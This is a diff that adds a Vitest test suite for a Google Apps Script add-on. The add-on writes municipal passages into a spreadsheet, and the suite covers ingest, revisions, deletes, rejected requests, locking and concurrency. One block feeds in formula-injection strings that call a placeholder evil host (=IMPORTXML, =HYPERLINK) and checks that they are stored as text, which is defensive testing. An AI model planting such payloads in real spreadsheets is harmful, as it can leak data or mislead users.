@@ -1,0 +1,193 @@
+// The add-on's web app, as the very bundle clasp pushes, on the local runtime: ingest, idempotence, bad input, concurrency.
+import { readFileSync, writeFileSync } from 'node:fs';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { makePassage } from '../helpers/passages';
+import { startTestSheet, tabValues, TOKEN, type TestSheet } from '../helpers/local-sheet';
+
+let sheet: TestSheet;
+beforeEach(async () => {
+  sheet = await startTestSheet();
+});
+afterEach(async () => {
+  await sheet.stop();
+});
+
+const passagerRows = () => tabValues(sheet, 'Passager').slice(1);
+
+describe('ingest', () => {
+  test('upserts become rows with municipality, county and kind, and the workbook is on disk before the answer', async () => {
+    const nacka = makePassage({ themes: ['digitalisering', 'tolkar'] });
+    const flen = makePassage({ municipality: '0482', kind: 'plan', url: 'http://www.socialbarnungdom.se/flen/' });
+    const reply = await sheet.upsert(nacka, flen);
+    expect(reply.json).toEqual({ ok: true, results: [{ id: nacka.id, status: 'applied', rev: 1 }, { id: flen.id, status: 'applied', rev: 1 }] });
+    const rows = passagerRows();
+    expect(rows).toHaveLength(2);
+    expect(rows[0].slice(0, 6)).toEqual(['0182', 'Nacka', 'Stockholms län', 'Tema', 'digitalisering, tolkar', nacka.quote]);
+    expect(rows[1].slice(0, 4)).toEqual(['0482', 'Flen', 'Södermanlands län', 'Plan för handling']);
+    expect(rows[0][18]).toBe(nacka.id);
+    const reopened = await import('../../apps-script/local-runtime/workbook-file').then((m) => m.loadWorkbook(sheet.workbookPath, 'sv_SE'));
+    expect(reopened.book.sheet('Passager')!.displayed(3, 19)).toBe(flen.id);
+  });
+
+  test('the same batch again adds nothing and answers duplicate', async () => {
+    const passages = [makePassage(), makePassage()];
+    await sheet.upsert(...passages);
+    const before = sheet.bytes();
+    const again = await sheet.upsert(...passages);
+    expect(again.json.results.map((r: { status: string }) => r.status)).toEqual(['duplicate', 'duplicate']);
+    expect(passagerRows()).toHaveLength(2);
+    expect(sheet.bytes().equals(before)).toBe(true);
+  });
+
+  test('a higher rev wins, a lower rev is stale and changes nothing', async () => {
+    const first = makePassage();
+    await sheet.upsert(first);
+    const edited = { ...first, rev: 3, note: 'ändrad' };
+    expect((await sheet.upsert(edited)).json.results[0]).toEqual({ id: first.id, status: 'applied', rev: 3 });
+    const late = await sheet.upsert({ ...first, rev: 2, note: 'gammal' });
+    expect(late.json.results[0]).toEqual({ id: first.id, status: 'stale', rev: 3 });
+    expect(passagerRows()).toHaveLength(1);
+    expect(passagerRows()[0][6]).toBe('ändrad');
+  });
+
+  test('a delete keeps the row as a tombstone; the page no longer lists it; a late upsert cannot revive it', async () => {
+    const p = makePassage();
+    await sheet.upsert(p);
+    const deleted = await sheet.send([{ op: 'delete', id: p.id, rev: 2 }]);
+    expect(deleted.json.results[0]).toEqual({ id: p.id, status: 'applied', rev: 2 });
+    expect(passagerRows()).toHaveLength(1);
+    expect(passagerRows()[0][13]).toBe(true);
+    const listed = await sheet.get({ action: 'passages', url: p.url, token: TOKEN });
+    expect(listed.json).toEqual({ ok: true, passages: [] });
+    expect((await sheet.upsert(p)).json.results[0].status).toBe('stale');
+  });
+
+  test('a delete of an unknown id leaves a tombstone that keeps a later, older upsert out', async () => {
+    const p = makePassage({ rev: 1 });
+    expect((await sheet.send([{ op: 'delete', id: p.id, rev: 5 }])).json.results[0].status).toBe('applied');
+    expect((await sheet.upsert(p)).json.results[0].status).toBe('stale');
+    expect(passagerRows()).toHaveLength(1);
+  });
+
+  test('passages?url= gives the live passages of that post, whichever address of it is asked for', async () => {
+    const mine = makePassage();
+    const other = makePassage({ url: 'http://www.socialbarnungdom.se/kommunbesok/flen/' });
+    await sheet.upsert(mine, other);
+    const archived = 'https://web.archive.org/web/20160305121314/http://www.socialbarnungdom.se/kommunbesok/nacka-kommun/';
+    const reply = await sheet.get({ action: 'passages', url: archived, token: TOKEN });
+    expect(reply.json).toEqual({ ok: true, passages: [mine] });
+  });
+
+  test('ping and the codebook', async () => {
+    expect((await sheet.get({ action: 'ping', token: TOKEN })).json).toEqual({ ok: true, version: '0.1.0' });
+    const codebook = (await sheet.get({ action: 'codebook', token: TOKEN })).json.codebook;
+    expect(codebook.kinds.map((k: { id: string }) => k.id)).toEqual(['theme', 'plan', 'national']);
+    expect(codebook.themes.length).toBeGreaterThanOrEqual(18);
+  });
+});
+
+describe('text that looks like a formula is kept as text', () => {
+  test.each([
+    ['quote', '=IMPORTXML("http://evil.example/","//a")'],
+    ['note', '+46 8 123 45 67'],
+    ['note', '-1'],
+    ['pageTitle', '@alla'],
+    ['author', '\tinskjuten'],
+    ['quote', '\r=1+1'],
+    ['note', '=HYPERLINK("http://evil.example","klicka")'],
+  ])('%s = %j', async (field, text) => {
+    const p = makePassage({ [field]: text });
+    expect((await sheet.upsert(p)).json.ok).toBe(true);
+    const formulas = sheet.runtime.spreadsheetApp.getActiveSpreadsheet().getSheetByName('Passager')!.getRange(2, 1, 1, 19).getFormulas();
+    expect(formulas[0].every((formula) => formula === '')).toBe(true);
+    const listed = await sheet.get({ action: 'passages', url: p.url, token: TOKEN });
+    expect(listed.json.passages[0][field]).toBe(text);
+  });
+});
+
+describe('bad requests get their code and change nothing', () => {
+  const good = () => ({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage() }] });
+  const cases: Array<[string, () => string, string]> = [
+    ['no token', () => JSON.stringify({ ...good(), token: undefined }), 'unauthorized'],
+    ['wrong token', () => JSON.stringify({ ...good(), token: 'wrong' }), 'unauthorized'],
+    ['token of the right length but wrong', () => JSON.stringify({ ...good(), token: TOKEN.replace(/.$/, 'x') }), 'unauthorized'],
+    ['token as a number', () => JSON.stringify({ ...good(), token: 12 }), 'unauthorized'],
+    ['malformed JSON', () => '{"v":1,"token":', 'invalid_request'],
+    ['empty body', () => '', 'invalid_request'],
+    ['an array', () => '[]', 'unauthorized'],
+    ['wrong version', () => JSON.stringify({ ...good(), v: 2 }), 'invalid_request'],
+    ['ops missing', () => JSON.stringify({ v: 1, token: TOKEN }), 'invalid_request'],
+    ['unknown op', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'truncate' }] }), 'invalid_request'],
+    ['a passage without a quote', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: { ...makePassage(), quote: undefined } }] }), 'invalid_request'],
+    ['a 50,000-character quote', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage({ quote: 'x'.repeat(50_000) }) }] }), 'invalid_request'],
+    ['a municipality that is a formula', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage({ municipality: '=IMPORTXML("http://x","//a")' }) }] }), 'invalid_request'],
+    ['a theme id starting with +', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage({ themes: ['+tolkar'] }) }] }), 'invalid_request'],
+    ['an id starting with -', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage({ id: '-1' }) }] }), 'invalid_request'],
+    ['a url starting with @', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage({ url: '@http://x.se/' }) }] }), 'invalid_request'],
+    ['501 ops', () => JSON.stringify({ v: 1, token: TOKEN, ops: Array.from({ length: 501 }, () => ({ op: 'upsert', passage: makePassage() })) }), 'too_large'],
+    ['a body over 2 MB', () => JSON.stringify({ ...good(), padding: 'x'.repeat(2 * 1024 * 1024) }), 'too_large'],
+    ['one good op and one bad', () => JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage() }, { op: 'upsert', passage: makePassage({ rev: 0 }) }] }), 'invalid_request'],
+  ];
+
+  test.each(cases.map(([name, body, code]) => [name, code, body] as const))('%s → %s', async (_name, code, body) => {
+    await sheet.upsert(makePassage());
+    const workbook = sheet.bytes();
+    const side = readFileSync(sheet.workbookPath.replace(/\.xlsx$/, '.runtime.json'));
+    const reply = await sheet.post(body());
+    expect(reply.status).toBe(200);
+    expect(reply.json.ok).toBe(false);
+    expect(reply.json.error.code).toBe(code);
+    expect(reply.json.error.message.length).toBeGreaterThan(10);
+    expect(sheet.bytes().equals(workbook)).toBe(true);
+    expect(readFileSync(sheet.workbookPath.replace(/\.xlsx$/, '.runtime.json')).equals(side)).toBe(true);
+  });
+
+  test('invalid_request names the field paths', async () => {
+    const reply = await sheet.post(JSON.stringify({ v: 1, token: TOKEN, ops: [{ op: 'upsert', passage: makePassage({ kind: 'x' as never, rev: 0 }) }] }));
+    expect(reply.json.error.details.map((d: { path: string }) => d.path).sort()).toEqual(['ops.0.passage.kind', 'ops.0.passage.rev']);
+  });
+
+  test.each([
+    [{ action: 'ping' }, 'unauthorized'],
+    [{ action: 'ping', token: 'nope' }, 'unauthorized'],
+    [{ action: 'drop', token: TOKEN }, 'invalid_request'],
+    [{ action: 'passages', token: TOKEN }, 'invalid_request'],
+    [{ token: TOKEN }, 'invalid_request'],
+  ])('GET %j → %s', async (parameters, code) => {
+    const workbook = sheet.bytes();
+    const reply = await sheet.get(parameters as Record<string, string>);
+    expect(reply.json.error.code).toBe(code);
+    expect(sheet.bytes().equals(workbook)).toBe(true);
+  });
+
+  test('when another writer holds the lock past the wait: server_busy, and nothing written', async () => {
+    const workbook = sheet.bytes();
+    writeFileSync(`${sheet.workbookPath}.lock`, String(process.pid));
+    const reply = await sheet.upsert(makePassage());
+    expect(reply.json.error.code).toBe('server_busy');
+    expect(sheet.bytes().equals(workbook)).toBe(true);
+  }, 30_000);
+});
+
+describe('many clients at once', () => {
+  test('10 clients × 50 ops sent together → exactly 500 rows, no duplicates, nothing lost', async () => {
+    const batches = Array.from({ length: 10 }, () => Array.from({ length: 50 }, () => makePassage()));
+    const replies = await Promise.all(batches.map((batch) => sheet.upsert(...batch)));
+    expect(replies.every((reply) => reply.json.ok && reply.json.results.every((r: { status: string }) => r.status === 'applied'))).toBe(true);
+    const ids = passagerRows().map((row) => row[18]);
+    expect(ids).toHaveLength(500);
+    expect(new Set(ids)).toEqual(new Set(batches.flat().map((p) => p.id)));
+  });
+});
+
+describe('service calls', () => {
+  test('do not grow with the batch or with the sheet', async () => {
+    const one = await sheet.upsert(makePassage());
+    const hundred = await sheet.upsert(...Array.from({ length: 100 }, () => makePassage()));
+    await sheet.upsert(...Array.from({ length: 300 }, () => makePassage()));
+    const hundredMore = await sheet.upsert(...Array.from({ length: 100 }, () => makePassage()));
+    expect(one.calls).toBeGreaterThan(5);
+    expect(hundred.calls).toBe(one.calls);
+    expect(hundredMore.calls).toBe(one.calls);
+  });
+});
